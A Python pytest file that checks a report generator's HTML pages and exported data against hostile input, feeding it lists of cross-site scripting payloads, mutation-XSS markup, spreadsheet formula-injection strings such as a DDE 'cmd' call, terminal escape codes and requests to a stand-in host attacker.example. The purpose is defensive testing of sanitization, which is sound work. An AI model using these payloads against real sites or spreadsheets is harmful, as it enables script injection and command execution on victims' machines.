"""A sheet whose every text is an attack, through the real notebooks into a browser that runs
whatever is script and would fetch whatever has an address."""

import io
import itertools
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from unittest.mock import patch

import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup

import browser
from devtools import browsing
from helpers import paths
from helpers.batch import index
from helpers.batch.make import make
from helpers.batch.plan import Report, Task
from helpers.batch.report_page import to_html
from helpers.batch.results import Options
from helpers.charts import style
from helpers.sheet import COLUMNS, TEXT
from helpers.show import DATA
from helpers.words import LANGUAGES, visible

FOLDER = "hostile"
RUN = "document.documentElement.dataset.ran=1"
AWAY = "http://attacker.example"

ATTACKS = [
    f"<script>{RUN};document.title='x'</script>",
    f'"><img src={AWAY}/1 onerror="{RUN}">',
    f"'><svg onload={RUN}><style>@import '{AWAY}/2'</style>",
    f"</title></style></textarea></script><script src={AWAY}/3></script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>' src={AWAY}/4></iframe>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/5'><base href={AWAY}/>",
    f"--><link rel=stylesheet href={AWAY}/6><!--",
    f"javascript:{RUN}//",
    f"[x](javascript:{RUN}) ![y]({AWAY}/7) <b>z</b> `c`",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A1",
    "+1",
    "-1",
    "tab\tCR\rVT\x0bBEL\x07DEL\x7fNEL\x85.",
    f"\x1b[31mred\x1b[0m \x1b]8;;{AWAY}/8\x07link\x1b]8;;\x07 \x9b2J",
    "abc\u202edcba\u2066iso\u2069\u200f\u2028.",
    "{{7*7}} {% raw %} ${7*7} #{7*7} {0} {name!r} %s %(x)d %",
    r"$$\require{html}\href{javascript:x}{y}$$ $\frac{1}{0$ \(x\) \begin{x}",
    "W" * 300 + "長" * 300,
    "%PDF-1.7 \\u003cscript\\u003e &lt;script&gt; &#60;script&#62;",
    "😀👨\u200d👩\u200d👧 𠮷野家 髙﨑 ㍿ \ue000 Ａ́",
]

SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script>"
    f"<image href='{AWAY}/9'/><foreignObject><img src='{AWAY}/10'/></foreignObject></svg>"
)


HIT = f"<img src={AWAY}/11 onerror={RUN}>"
MARKUP = [
    *(f"<{tag}><p title='</{tag}>{HIT}'>" for tag in ("noscript", "style", "xmp", "title", "svg")),
    *(f"<{tag}><p title='</{tag}>{HIT}'>" for tag in ("textarea", "template", "table", "iframe")),
    *(f"<!-->{HIT}-->", f"<![CDATA[>{HIT}]]>", f"<?x >{HIT}?>", f"<!x [>{HIT}]>", f"</ x>{HIT}"),
    f"<math><mtext><table><mglyph><style><!--</style><img title='-->{HIT}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{HIT}",
    f"<svg></p><style><a id='</style>{HIT}'>",
    f"<p id='\"{HIT}' title=\"'{HIT}\" class=`{HIT}` style='background:url({AWAY}/12)'>",
    f"<a href='java&#10;script:{RUN}' ping={AWAY}/13>a</a><a href='&#1;javascript:{RUN}'>b</a>",
    f"<img alt='a' src='data:image/svg+xml,<svg onload={RUN}>' srcset='{AWAY}/14'>",
    f"<details open ontoggle={RUN}><summary>a</summary></details><b autofocus onfocus={RUN}>",
]
"""Markup that has got past cleaners: what one parser takes for text is a tag to another."""

WHERE = {
    "01_sheet_quality": ("sheet", ["ministry", "bureau", "division", "accounts", "official_id"]),
    "02_budget_underspending": ("payment", ["payee", "work"]),
    "03_adoption_curve": ("outcome", ["indicator", "unit"]),
}
"""Notebook -> a table of the sheet, and columns of it that its report shows."""


@pytest.fixture(scope="module")
def rows():
    """A sheet's rows, with another attack in every text; its name is all of them."""
    attacks = itertools.cycle(ATTACKS)

    def attacked(name, /, **known):
        """A row of the table `name` with `known` values, an attack in each text besides."""
        own = {"source_format": "judgit json", "status": "", "tier": ""} | known
        texts = [column for column, kind in COLUMNS[name].items() if kind == TEXT]
        # What nobody gives is made from the payee's name.
        texts = [column for column in texts if column != "payee_key"]
        return known | {c: own[c] if c in own else next(attacks) for c in texts}

    indicators = [
        attacked("outcome", number=number, target=80, target_year=2023) for number in (1, 2)
    ]
    return {
        "sheet": [attacked("sheet", sheet_year=2019, name=" ".join(ATTACKS))],
        "budget": [
            {
                "fiscal_year": year,
                "initial": 100,
                "budget_net": 103 + year % 7,
                "executed": executed,
            }
            for year, executed in zip(range(2014, 2020), (80, 91, 77, 99, 83, None), strict=True)
        ],
        "outcome": [
            {**indicator, "fiscal_year": year, "actual": (year - 2012) ** 1.3, "expected": 12}
            for indicator in indicators
            for year in range(2014, 2019)
        ],
        "output": [attacked("output", number=1, fiscal_year=2017, actual=3, expected=4)],
        "payment": [
            attacked("payment", fiscal_year=2017, rank=rank, amount=9 + rank)
            for rank in range(len(ATTACKS))
        ],
        "remark": [attacked("remark", table="sheet", rule="unknown_key") for _ in ATTACKS],
    }


@pytest.fixture(scope="module")
def out(rows, tmp_path_factory):
    """The reports of that sheet, the page that lists them, and one of a hostile notebook."""
    out = tmp_path_factory.mktemp("hostile")
    reports = tuple(
        Report(paths.NOTEBOOKS / f"{stem}.ipynb", lang, {})
        for stem, lang in itertools.product(WHERE, LANGUAGES)
    )
    results = make(Task(f"{AWAY}/{ATTACKS[0]}", FOLDER, reports, rows=rows), Options(str(out)))
    assert [result.error for result in results if result.error] == []
    assert [result.warnings for result in results if result.warnings] == []
    index.write(out)
    (out / "other.html").write_text(to_html(of_others(), "en"), encoding="utf-8")
    return out


def of_others():
    """A notebook whose prose and outputs are attacks."""
    shown = [{"image/svg+xml": SVG, "text/plain": HIT}, *({"text/html": m} for m in MARKUP)]
    shown.append({"text/plain": " ".join(ATTACKS)})
    outputs = [nbformat.v4.new_output("display_data", data) for data in shown]
    outputs.append(nbformat.v4.new_output("stream", name="stderr", text=" ".join(ATTACKS)))
    prose = [nbformat.v4.new_markdown_cell(text) for text in [*ATTACKS, *MARKUP]]
    code = nbformat.v4.new_code_cell("", outputs=outputs)
    return nbformat.v4.new_notebook(cells=[*prose, code])


class Noting(BaseHTTPRequestHandler):
    """A server that notes what it is asked for, but for what a browser asks on its own."""

    def do_GET(self):
        if AWAY.endswith(self.headers["Host"]):
            self.server.asked.append(self.path)
        self.send_error(404)

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def visit(tmp_path_factory):
    """visit(page): the document a browser makes of it, and what it asks of the network: whatever
    name it asks for leads to a server here."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        server.asked = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        rules = f"--host-resolver-rules=MAP * 127.0.0.1:{server.server_port}"
        with browsing(tmp_path_factory.mktemp("profile"), rules) as tab:

            def visit(page):
                server.asked.clear()
                tab.open(page.as_uri())
                html = tab.run("document.documentElement.outerHTML")
                return BeautifulSoup(html, "html.parser"), server.asked

            yield visit
        server.shutdown()


def plain(text):
    """The text without blanks and without what is not seen: pages show these in other ways."""
    return re.sub(r"[\s�]", "", visible(text))


@browser.installed
def test_a_page_that_lets_them_in_is_found_out(visit, tmp_path):
    """That the tests below can fail."""
    page = tmp_path / "open.html"
    page.write_text(f"<!DOCTYPE html><title>A</title><p>{ATTACKS[0]}<p>{ATTACKS[1]}", "utf-8")
    document, asked = visit(page)
    assert document.html.get("data-ran") == "1"
    assert document.title.get_text() == "x"
    assert asked == ["/1"]


PAGES = [f"{FOLDER}/{stem}.{lang}.html" for stem, lang in itertools.product(WHERE, LANGUAGES)]


@browser.installed
@pytest.mark.parametrize("name", [*PAGES, "index.html", "other.html"])
def test_nothing_runs_and_nothing_is_asked_for(out, visit, tmp_path, name):
    """Not even without the page's policy, which would forbid it."""
    text = (out / name).read_text("utf-8")
    bare, policies = re.subn('<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert policies == 1
    page = tmp_path / "page.html"
    page.write_text(bare, "utf-8")
    document, asked = visit(page)
    assert asked == []
    assert "data-ran" not in document.html.attrs
    written = BeautifulSoup(bare, "html.parser")
    assert document.title.get_text() == written.title.get_text()
    found, meant = ({tag.name for tag in soup.find_all(True)} for soup in (document, written))
    assert found <= meant | {"tbody"}


@pytest.mark.parametrize("name", PAGES)
def test_reports_show_the_attacks_as_text(out, rows, name):
    page = BeautifulSoup((out / name).read_text("utf-8"), "html.parser")
    assert not page.find_all(["script", "iframe", "svg", "base", "link", "textarea"])
    assert "z" not in [bold.get_text() for bold in page.find_all("b")]
    links = page.find_all("a", href=True, download=False)
    assert [link["href"] for link in links if ":" in link["href"]] == []
    assert plain(" ".join(ATTACKS)) in plain(page.select_one(".subtitle").get_text())
    assert plain(" ".join(ATTACKS)) in plain(page.title.get_text())
    table, columns = WHERE[name.removeprefix(f"{FOLDER}/").split(".")[0]]
    shown = plain(page.main.get_text())
    hidden = [r[c] for r in rows[table] for c in columns if plain(r[c])[:60] not in shown]
    assert hidden == []
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u2066]", page.get_text())


def test_a_spreadsheet_takes_nothing_of_a_figures_data_for_a_formula():
    names = [text for text in ATTACKS if text[0] in "=+@-"]
    data = pd.DataFrame({"payee": names, "=1": range(len(names))})
    figure = style.canvas(None).figure
    style.finish(figure.axes[0], "a", "b", "c", data=data)
    with patch.object(style, "display") as display:
        figure._ipython_display_()
    saved = pd.read_csv(io.StringIO(display.call_args.args[0][DATA]))
    assert saved.iloc[:, 0].to_list() == [f"'{name}" for name in names]
    assert saved.columns[1] == "'=1"


def test_the_list_shows_the_attacks_as_text(out):
    page = BeautifulSoup((out / "index.html").read_text("utf-8"), "html.parser")
    assert plain(" ".join(ATTACKS)) in plain(page.get_text())
